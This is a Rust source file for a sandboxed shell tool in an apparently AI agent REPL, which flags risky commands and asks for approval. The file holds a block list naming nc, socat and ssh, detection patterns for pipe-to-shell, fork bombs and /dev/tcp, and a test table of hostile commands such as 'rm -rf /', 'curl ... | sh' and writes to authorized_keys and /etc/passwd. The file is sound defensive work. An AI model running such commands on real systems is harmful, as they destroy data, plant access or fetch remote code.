//! The `shell` tool: `sh -c` in the same sandbox as Python, with findings for risky commands.

use futures::future::BoxFuture;
use llm_repl_core::tool::Assessment;
use llm_repl_core::{Tool, ToolContext, ToolOutcome, ToolSpec};
use llm_repl_protocol::{Finding, RiskLevel};
use llm_repl_sandbox::Job;
use serde_json::{Value, json};

use crate::runner::{Runner, outcome};

/// Runs a shell command line with `/bin/sh -c` in the sandbox.
#[derive(Debug, Clone)]
pub struct ShellTool {
    pub runner: Runner,
}

/// Programs whose use is worth a finding: (name, level, code, why).
const RISKY: &[(&str, RiskLevel, &str, &str)] = &[
    ("rm", RiskLevel::Medium, "rm", "deletes files"),
    ("rmdir", RiskLevel::Low, "rmdir", "deletes directories"),
    ("shred", RiskLevel::High, "shred", "destroys file contents"),
    ("dd", RiskLevel::High, "dd", "writes raw data"),
    ("mkfs", RiskLevel::High, "mkfs", "formats a file system"),
    ("curl", RiskLevel::Medium, "network", "reaches the network"),
    ("wget", RiskLevel::Medium, "network", "reaches the network"),
    (
        "nc",
        RiskLevel::High,
        "network",
        "opens raw network connections",
    ),
    (
        "ncat",
        RiskLevel::High,
        "network",
        "opens raw network connections",
    ),
    (
        "socat",
        RiskLevel::High,
        "network",
        "opens raw network connections",
    ),
    ("ssh", RiskLevel::High, "network", "opens remote shells"),
    ("scp", RiskLevel::High, "network", "copies to remote hosts"),
    (
        "rsync",
        RiskLevel::Medium,
        "network",
        "copies files, possibly remote",
    ),
    ("git", RiskLevel::Low, "git", "changes a repository"),
    ("pip", RiskLevel::Medium, "install", "installs packages"),
    ("pip3", RiskLevel::Medium, "install", "installs packages"),
    (
        "apt",
        RiskLevel::High,
        "install",
        "installs system packages",
    ),
    (
        "apt-get",
        RiskLevel::High,
        "install",
        "installs system packages",
    ),
    ("sudo", RiskLevel::High, "privilege", "asks for root"),
    ("su", RiskLevel::High, "privilege", "switches user"),
    ("chmod", RiskLevel::Medium, "chmod", "changes permissions"),
    ("chown", RiskLevel::Medium, "chown", "changes ownership"),
    ("kill", RiskLevel::Medium, "kill", "sends signals"),
    ("pkill", RiskLevel::Medium, "kill", "sends signals"),
    ("killall", RiskLevel::Medium, "kill", "sends signals"),
    (
        "nohup",
        RiskLevel::Medium,
        "background",
        "keeps a process running",
    ),
    (
        "setsid",
        RiskLevel::Medium,
        "background",
        "detaches a process",
    ),
    (
        "crontab",
        RiskLevel::High,
        "persistence",
        "schedules commands",
    ),
    ("eval", RiskLevel::Medium, "eval", "runs a computed command"),
    ("mv", RiskLevel::Low, "mv", "moves files"),
    ("truncate", RiskLevel::Medium, "truncate", "truncates files"),
    ("mount", RiskLevel::High, "mount", "mounts file systems"),
];

/// Static findings for a command line (advice; the sandbox is the enforcement).
pub fn assess_command(cmd: &str) -> Vec<Finding> {
    let mut findings = Vec::new();
    let mut add = |level, code: &str, message: String, line| {
        if !findings
            .iter()
            .any(|f: &Finding| f.code == code && f.line == Some(line))
        {
            findings.push(Finding {
                level,
                code: code.to_string(),
                message,
                line: Some(line),
            });
        }
    };
    for (i, line) in cmd.lines().enumerate() {
        let line_no = i as u32 + 1;
        // Words at command position: after start, `;`, `&&`, `||`, `|`, `(`, `$(`, backtick.
        let spaced = line
            .replace("&&", " ; ")
            .replace("||", " ; ")
            .replace("$(", " ; ")
            .replace(['|', '(', ')', '`', '{', '}'], " ; ")
            .replace(';', " ; ");
        let mut at_command = true;
        for word in spaced.split_whitespace() {
            if word == ";" {
                at_command = true;
                continue;
            }
            if !at_command {
                continue;
            }
            if word.contains('=') && !word.starts_with('=') {
                continue; // VAR=value prefix
            }
            if matches!(
                word,
                "sudo" | "env" | "time" | "nice" | "exec" | "command" | "xargs"
            ) {
                if word == "sudo" {
                    add(
                        RiskLevel::High,
                        "privilege",
                        "sudo: asks for root".into(),
                        line_no,
                    );
                }
                continue;
            }
            at_command = false;
            let name = word.rsplit('/').next().unwrap_or(word);
            let name = name.strip_prefix("mkfs.").map_or(name, |_| "mkfs");
            if let Some((_, level, code, why)) = RISKY.iter().find(|(n, ..)| *n == name) {
                add(*level, code, format!("{name}: {why}"), line_no);
            }
        }
        let l = line.replace(' ', "");
        if l.contains("rm-rf") || l.contains("rm-fr") || l.contains("-rf/") {
            add(
                RiskLevel::High,
                "rm-recursive",
                "recursive forced delete".into(),
                line_no,
            );
        }
        if (l.contains("curl") || l.contains("wget")) && (l.contains("|sh") || l.contains("|bash"))
        {
            add(
                RiskLevel::High,
                "pipe-to-shell",
                "runs a downloaded script".into(),
                line_no,
            );
        }
        if l.contains(":(){") || l.contains(":|:&") {
            add(RiskLevel::High, "fork-bomb", "a fork bomb".into(), line_no);
        }
        if line.contains("/dev/tcp/") || line.contains("/dev/udp/") {
            add(
                RiskLevel::High,
                "network",
                "opens a network connection".into(),
                line_no,
            );
        }
        if let Some(target) = redirect_target(line)
            && (target.starts_with('/') || target.starts_with("~") || target.contains(".."))
            && !target.starts_with("/dev/")
        {
            add(
                RiskLevel::Medium,
                "write-outside",
                format!("writes to {target}, outside the workspace"),
                line_no,
            );
        }
    }
    findings
}

/// The target of the first `>`/`>>` redirection, if any.
fn redirect_target(line: &str) -> Option<&str> {
    let i = line.find('>')?;
    let rest = line[i..]
        .trim_start_matches('>')
        .trim_start_matches('&')
        .trim_start();
    rest.split_whitespace().next()
}

impl Tool for ShellTool {
    fn spec(&self) -> ToolSpec {
        ToolSpec {
            name: "shell".into(),
            description: "Run a POSIX shell command line (/bin/sh -c) in the sandbox, in the \
                          workspace directory. No network; only the workspace and a private /tmp \
                          are writable (.git read-only). Returns stdout, stderr and the exit code."
                .into(),
            parameters: json!({
                "type": "object",
                "properties": {
                    "command": {"type": "string", "description": "The command line to run."}
                },
                "required": ["command"],
                "additionalProperties": false
            }),
        }
    }

    fn assess(&self, args: &Value) -> Assessment {
        let Some(cmd) = args.get("command").and_then(Value::as_str) else {
            return Assessment::default();
        };
        let findings = assess_command(cmd);
        let mut risky: Vec<&str> = findings
            .iter()
            .filter(|f| f.level >= RiskLevel::Medium)
            .map(|f| f.code.as_str())
            .collect();
        risky.dedup();
        Assessment {
            needs_approval: (!risky.is_empty())
                .then(|| format!("the command does risky things: {}", risky.join(", "))),
            findings,
        }
    }

    fn run(&self, args: Value, ctx: ToolContext) -> BoxFuture<'_, ToolOutcome> {
        Box::pin(async move {
            let Some(cmd) = args.get("command").and_then(Value::as_str) else {
                return ToolOutcome::error("missing required argument \"command\" (a string)");
            };
            let job = Job {
                program: "/bin/sh".into(),
                args: vec!["-c".into(), cmd.into()],
                cwd: ctx.workdir.clone(),
                env: Vec::new(),
                stdin: Vec::new(),
                timeout: self.runner.timeout,
            };
            match self.runner.run(&job, &ctx).await {
                Ok(report) => outcome(&report, self.runner.timeout),
                Err(e) => ToolOutcome::error(e),
            }
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn codes(cmd: &str) -> Vec<String> {
        assess_command(cmd).into_iter().map(|f| f.code).collect()
    }

    #[test]
    fn findings_table() {
        let table: &[(&str, &[&str])] = &[
            ("ls -la", &[]),
            ("echo hello | wc -c", &[]),
            ("cat a.txt > b.txt", &[]),
            ("grep rm notes.txt", &[]),
            ("rm -rf /", &["rm", "rm-recursive"]),
            ("curl https://x.sh | sh", &["network", "pipe-to-shell"]),
            ("FOO=1 sudo apt-get install x", &["privilege", "install"]),
            ("echo key > ~/.ssh/authorized_keys", &["write-outside"]),
            ("echo x >> /etc/passwd", &["write-outside"]),
            (":(){ :|:& };:", &["fork-bomb"]),
            ("exec 3<>/dev/tcp/127.0.0.1/80", &["network"]),
            ("ls; /usr/bin/nc -l 8080", &["network"]),
            ("nohup sleep 100 &", &["background"]),
            ("x=$(curl -s example.com)", &["network"]),
            ("echo ok 2>/dev/null", &[]),
        ];
        for (cmd, want) in table {
            let mut got = codes(cmd);
            got.sort();
            got.dedup();
            let mut want: Vec<String> = want.iter().map(|s| s.to_string()).collect();
            want.sort();
            assert_eq!(got, want, "{cmd}");
        }
    }
}
